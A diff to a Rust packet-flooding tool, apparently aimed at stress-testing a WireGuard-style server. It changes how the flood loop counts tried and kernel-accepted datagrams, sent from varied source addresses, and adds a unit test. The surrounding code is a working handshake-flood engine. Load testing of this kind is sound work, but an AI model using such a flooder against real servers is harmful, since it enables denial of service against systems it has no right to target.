@@ -151,31 +151,32 @@ pub struct Aim<'a> {
     pub public_key: &'a [u8; 32],
 }
 
-/// Sends until it is told to stop. Returns how many datagrams left, and how many cookies came back.
+/// Sends until it is told to stop. Returns how many datagrams left, and how many cookies came back. What the kernel has
+/// no room for is not sent again, and not counted.
 ///
 /// # Errors
 /// A datagram cannot be sent.
 pub fn run(attack: Attack, aim: Aim<'_>, stop: &AtomicBool) -> Result<Sent> {
     let datagrams = attack.datagrams(aim.public_key);
     let family = if aim.target.is_ipv4() { Family::V4 } else { Family::V6 };
-    let (mut sent, mut cookies) = (0_u64, 0);
+    let (mut tried, mut sent, mut cookies) = (0_u64, 0, 0);
     let begun = Instant::now();
     // What was due so long ago is not made up for.
     let mut forgiven = 0;
     while !stop.load(Ordering::Relaxed) {
         let due = match attack.rate() {
-            None => sent + 64,
+            None => tried + 64,
             Some(rate) => {
                 let due = (begun.elapsed().as_nanos() * u128::from(rate) / 1_000_000_000) as u64;
                 let most = (CATCH_UP.as_nanos() * u128::from(rate) / 1_000_000_000) as u64;
-                forgiven = forgiven.max(due.saturating_sub(sent + most));
+                forgiven = forgiven.max(due.saturating_sub(tried + most));
                 due - forgiven
             }
         };
-        while sent < due {
-            let number = (sent.wrapping_mul(2_654_435_761) % u64::from(attack.sources())) as u32;
-            send(aim, address(family, number), &datagrams[sent as usize % DATAGRAMS])?;
-            sent += 1;
+        while tried < due {
+            let number = (tried.wrapping_mul(2_654_435_761) % u64::from(attack.sources())) as u32;
+            sent += u64::from(send(aim, address(family, number), &datagrams[tried as usize % DATAGRAMS])?);
+            tried += 1;
         }
         cookies += count_answers(aim.socket);
         if attack.rate().is_some() {
@@ -189,7 +190,7 @@ pub fn run(attack: Attack, aim: Aim<'_>, stop: &AtomicBool) -> Result<Sent> {
 /// What an attack came to.
 #[derive(Clone, Copy, Debug, Default)]
 pub struct Sent {
-    /// Datagrams.
+    /// Datagrams that the kernel took.
     pub sent: u64,
     /// Answers.
     pub cookies: u64,
@@ -199,7 +200,8 @@ pub struct Sent {
     pub cpu: Duration,
 }
 
-fn send(aim: Aim<'_>, source: IpAddr, datagram: &[u8]) -> Result<()> {
+/// True: the kernel took it.
+fn send(aim: Aim<'_>, source: IpAddr, datagram: &[u8]) -> Result<bool> {
     let (fd, slice) = (aim.socket.as_raw_fd(), [IoSlice::new(datagram)]);
     let to = SockaddrStorage::from(aim.target);
     let sent = match source {
@@ -214,9 +216,15 @@ fn send(aim: Aim<'_>, source: IpAddr, datagram: &[u8]) -> Result<()> {
             sendmsg(fd, &slice, &[ControlMessage::Ipv6PacketInfo(&info)], MsgFlags::MSG_DONTWAIT, Some(&to))
         }
     };
+    is_taken(sent).context(format_args!("sending from {source}"))
+}
+
+/// False: there was no room for it.
+fn is_taken(sent: nix::Result<usize>) -> nix::Result<bool> {
     match sent {
-        Ok(_) | Err(Errno::EAGAIN | Errno::ENOBUFS) => Ok(()),
-        Err(errno) => Err(errno).context(format_args!("sending from {source}")),
+        Ok(_) => Ok(true),
+        Err(Errno::EAGAIN | Errno::ENOBUFS) => Ok(false),
+        Err(errno) => Err(errno),
     }
 }
 
@@ -230,4 +238,16 @@ fn count_answers(socket: &UdpSocket) -> u64 {
         count += u64::from(len == 64 && buffer[0] == 3);
     }
     count
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_the_kernel_has_no_room_for_is_neither_sent_nor_an_error() {
+        assert_eq!(is_taken(Ok(148)), Ok(true));
+        assert_eq!([Errno::EAGAIN, Errno::ENOBUFS].map(|errno| is_taken(Err(errno))), [Ok(false); 2]);
+        assert_eq!(is_taken(Err(Errno::ENETUNREACH)), Err(Errno::ENETUNREACH));
+    }
 }
